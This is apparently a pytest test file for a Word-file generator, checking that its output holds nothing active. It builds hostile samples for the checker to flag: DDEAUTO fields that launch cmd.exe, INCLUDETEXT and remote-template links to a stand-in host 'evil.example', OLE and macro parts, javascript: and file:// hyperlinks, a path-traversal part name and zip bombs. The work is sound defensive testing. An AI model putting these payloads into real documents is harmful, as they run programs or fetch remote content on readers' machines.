"""Whatever is put into a finished Word file that could fetch or run something is named."""

from __future__ import annotations

import io
import zipfile
from functools import cache
from pathlib import Path

import pytest

from editions import rich_edition
from hwrender.edition.model import EditionKind
from hwrender.formats.contract import Check
from hwrender.formats.word.inert import nothing_acts
from hwrender.formats.word.opening import open_file
from hwrender.formats.word.package import file_bytes
from reports import CASES, REPORTS, edition_of

DOCUMENT, TIES, SETTINGS = "word/document.xml", "word/_rels/document.xml.rels", "word/settings.xml"
TYPES = "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HOST = "http://evil.example"


@cache
def rich_members() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(file_bytes(rich_edition()))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def check_of(folder: Path, *changes: tuple[str, str, str], more: dict[str, bytes] | None = None) -> Check:
    """The check of a file in which, part by part, the first `old` became `new`."""
    members = rich_members() | (more or {})
    for part, old, new in changes:
        assert old.encode() in members[part], old
        members[part] = members[part].replace(old.encode(), new.encode(), 1)
    path = folder / "report.docx"
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return nothing_acts(open_file(path))


def tie(kind: str, target: str, mode: str = ' TargetMode="External"') -> tuple[str, str, str]:
    """A relationship of the document more."""
    return (
        TIES,
        "</Relationships>",
        f'<Relationship Id="rId999" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>',
    )


def in_body(xml: str) -> tuple[str, str, str]:
    return (DOCUMENT, "</w:body>", f"<w:p><w:r>{xml}</w:r></w:p></w:body>")


def in_settings(xml: str) -> tuple[str, str, str]:
    return (SETTINGS, "<w:defaultTabStop", f"{xml}<w:defaultTabStop")


def code(*pieces: str) -> str:
    """A field whose code is split over several runs."""
    inside = "".join(f"<w:instrText>{piece}</w:instrText></w:r><w:r>" for piece in pieces)
    return f'<w:fldChar w:fldCharType="begin"/></w:r><w:r>{inside}<w:fldChar w:fldCharType="end"/>'


def test_every_word_file_that_we_make_holds_only_what_we_make(tmp_path: Path) -> None:
    editions = [rich_edition()]
    editions += [edition_of(source, EditionKind.EASY) for source in (*REPORTS, *CASES)]
    for number, edition in enumerate(editions):
        path = tmp_path / f"{number}.docx"
        path.write_bytes(file_bytes(edition))
        check = nothing_acts(open_file(path))
        assert check.passed, (edition.publication.title, check.detail)


FIELDS = {
    "one that runs a program": (code(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"'), "DDEAUTO"),
    "one split over runs": (code(" DD", "EAU", 'TO c:\\\\cmd.exe "/k calc"'), "DDEAUTO"),
    "one in small letters": (code("ddeauto excel a b"), "ddeauto"),
    "a text from elsewhere": (code(f'INCLUDETEXT "{HOST}/a.docx"'), "INCLUDETEXT"),
    "a picture from elsewhere": (code(f'INCLUDEPICTURE "{HOST}/a.png" \\d'), "INCLUDEPICTURE"),
    "a link to a sheet": (code("LINK Excel.Sheet.8 a.xls R1C1"), "LINK"),
    "a button of a macro": (code("MACROBUTTON Run Click"), "MACROBUTTON"),
    "a question": (code("ASK name How"), "ASK"),
    "a field of a letter to many": (code("MERGEFIELD name"), "MERGEFIELD"),
    "one of our own with more behind it": (code(r"PAGE \* DDE"), "PAGE"),
    "the short form": ('<w:t>a</w:t></w:r><w:fldSimple w:instr="DDE a b"/><w:r>', "DDE a b"),
    "one that was deleted": (
        '<w:fldChar w:fldCharType="begin"/><w:delInstrText>DDE a b</w:delInstrText>', "DDE a b",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", FIELDS)
def test_a_field_that_we_do_not_write_is_named_by_its_code(name: str, tmp_path: Path) -> None:
    xml, named = FIELDS[name]
    check = check_of(tmp_path, in_body(xml))
    assert f"a field that we do not make: {named}" in check.detail


PARTS = {
    "word/vbaProject.bin": b"\xd0\xcf",
    "word/vbaData.xml": b"<a/>",
    "word/activeX/activeX1.xml": b"<a/>",
    "word/embeddings/oleObject1.bin": b"\xd0\xcf",
    "word/fonts/font1.odttf": b"font",
    "word/afchunk1.html": b"<p>",
    "word/webSettings.xml": b"<a/>",
    "word/glossary/document.xml": b"<a/>",
    "word/printerSettings/printerSettings1.bin": b"",
    "word/media/image1.svg": b"<svg/>",
    "word/media/image1.emf": b"",
    "customUI/customUI.xml": b"<a/>",
    "customXml/item1.xml": b"<a/>",
    "word/_rels/settings.xml.rels": b"<a/>",
    "word/../../evil.sh": b"",
}


@pytest.mark.parametrize("name", PARTS)
def test_a_part_that_we_do_not_make_is_named(name: str, tmp_path: Path) -> None:
    check = check_of(tmp_path, more={name: PARTS[name]})
    assert f"a part that we do not make: {name}" in check.detail


TIED = {
    "a template": (tie("attachedTemplate", f"{HOST}/x.dotm"), "attachedTemplate to http://evil.example/x.d"),
    "an object": (tie("oleObject", f"{HOST}/x.bin"), "oleObject"),
    "a chunk": (tie("aFChunk", "x.html", ""), "aFChunk"),
    "a frame": (tie("frame", f"{HOST}/x"), "frame"),
    "a source of addresses": (tie("mailMergeSource", "file:///c:/x.mdb"), "mailMergeSource"),
    "a part of another file": (tie("subDocument", "x.docx"), "subDocument"),
    "a picture on the web": (tie("image", f"{HOST}/x.png"), "brought in from outside: http://evil.example"),
    "styles on a shared disk": (tie("styles", r"\\evil\x.xml", ""), "brought in from outside"),
    "settings above the file": (tie("settings", "../../x.xml", ""), "brought in from outside"),
    "a link to a script": (tie("hyperlink", "javascript:alert(1)"), "a link to javascript:alert(1)"),
    "a link to a file": (tie("hyperlink", "file:///c:/x.exe"), "a link to file:///c:/x.exe"),
    "a link to a program": (tie("hyperlink", "ms-word:ofe|u|http://x"), "a link to ms-word"),
}


@pytest.mark.parametrize("name", TIED)
def test_a_tie_to_the_outside_is_named_with_where_it_leads(name: str, tmp_path: Path) -> None:
    change, named = TIED[name]
    assert named in check_of(tmp_path, change).detail


ELEMENTS = {
    "object": in_body("<w:object/>"),
    "control": in_body('<w:control r:id="rId1"/>'),
    "altChunk": (DOCUMENT, "</w:body>", '<w:altChunk r:id="rId1"/></w:body>'),
    "subDoc": (DOCUMENT, "</w:body>", '<w:subDoc r:id="rId1"/></w:body>'),
    "dataBinding": in_body("<w:sdt><w:sdtPr><w:dataBinding/></w:sdtPr></w:sdt>"),
    "attachedTemplate": in_settings('<w:attachedTemplate w:val="x"/>'),
    "mailMerge": in_settings("<w:mailMerge/>"),
    "documentProtection": in_settings("<w:documentProtection/>"),
    "hlinkClick": in_body(
        '<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://x"/>'
    ),
    "imagedata": in_body('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example"/>'),
}


@pytest.mark.parametrize("name", ELEMENTS)
def test_an_element_that_we_do_not_make_is_named(name: str, tmp_path: Path) -> None:
    assert f"an element that we do not make: {name}" in check_of(tmp_path, ELEMENTS[name]).detail


def test_a_picture_that_is_fetched_when_it_is_shown_is_named(tmp_path: Path) -> None:
    linked = in_body(
        '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId999"/>'
    )
    assert "an element that brings something in: blip" in check_of(tmp_path, linked).detail


def test_a_file_that_word_would_open_with_macros_is_named(tmp_path: Path) -> None:
    old = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    new = "application/vnd.ms-word.document.macroEnabled.main+xml"
    assert f"a kind of part that we do not make: {new[:50]}" in check_of(tmp_path, (TYPES, old, new)).detail


def test_instructions_and_definitions_are_named(tmp_path: Path) -> None:
    assert "an instruction" in check_of(tmp_path, in_body('<?xml-stylesheet href="x"?>')).detail
    defined = check_of(tmp_path, (SETTINGS, "<w:settings", "<!DOCTYPE settings []><w:settings"))
    assert "a definition of a document type" in defined.detail


def test_a_file_that_unpacks_to_far_more_than_a_report_is_not_opened(tmp_path: Path) -> None:
    path = tmp_path / "report.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(DOCUMENT, b"<a>" + b" " * 30_000_000 + b"</a>")
    with pytest.raises(ValueError, match="unpacks to far more"):
        open_file(path)
    with zipfile.ZipFile(path, "w") as archive:
        for number in range(5000):
            archive.writestr(f"{number}.txt", b"")
    with pytest.raises(ValueError, match="unpacks to far more"):
        open_file(path)
